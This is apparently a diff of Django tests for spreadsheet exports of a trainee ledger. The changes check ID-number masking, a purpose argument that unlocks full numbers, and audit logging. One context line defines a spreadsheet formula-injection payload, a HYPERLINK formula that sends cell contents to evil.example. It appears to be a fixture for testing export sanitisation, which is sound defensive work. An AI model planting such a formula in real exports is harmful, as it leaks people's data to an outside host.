@@ -27,9 +27,10 @@ pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 
 
-def ledger(export, actor, **filters) -> list[list[Any]]:
+def ledger(export, actor, purpose=None, **filters) -> list[list[Any]]:
     out = io.BytesIO()
-    export(actor=actor, filters=ClassFilters(**filters), out=out)
+    extra = {} if purpose is None else {"purpose": purpose}
+    export(actor=actor, filters=ClassFilters(**filters), out=out, **extra)
     return read_back(out.getvalue())
 
 
@@ -92,7 +93,10 @@ def test_the_classes_ledger_has_a_row_per_class_with_its_counts(users, world):
 
 
 def test_the_trainees_ledger_shows_results_and_certificates_in_full_for_the_city(users, world):
-    rows = ledger(trainees_export, users.city_admin)
+    masked = ledger(trainees_export, users.city_admin)
+    assert world["anhai"].id_number_masked in str(masked)
+    assert world["anhai"].id_number not in str(masked)
+    rows = ledger(trainees_export, users.city_admin, purpose="结业核对")
     assert rows[0][0] == "培训学员台账" and rows[3] == TRAINEE_HEADERS
     anhai = world["anhai"]
     row = next(r for r in rows[4:] if r[4] == "安海学员")
@@ -115,7 +119,7 @@ def test_the_trainees_ledger_shows_results_and_certificates_in_full_for_the_city
         world["ours"].start_date,
         "晋江市人社局",
     ]
-    entry = AuditEntry.objects.get(action="export.trainees")
+    entry = AuditEntry.objects.filter(action="export.trainees").latest("pk")
     assert (entry.actor_id, entry.changes["rows"], entry.changes["full_numbers"]) == (
         users.city_admin.pk,
         3,
@@ -143,7 +147,7 @@ def test_an_institution_exports_its_own_classes_with_masked_numbers_and_no_town(
 
 def test_town_staff_export_only_their_towns_trainees_and_the_classes_they_are_in(users, world):
     trainees = ledger(trainees_export, users.town_staff)
-    assert [(r[4], r[5]) for r in trainees[4:]] == [("安海学员", world["anhai"].id_number)]
+    assert [(r[4], r[5]) for r in trainees[4:]] == [("安海学员", world["anhai"].id_number_masked)]
     assert [r[1] for r in ledger(classes_export, users.town_staff)[4:]] == [world["ours"].code]
     other = ledger(trainees_export, users.other_town_staff)
     assert sorted(r[4] for r in other[4:]) == ["外机构学员", "磁灶学员"]
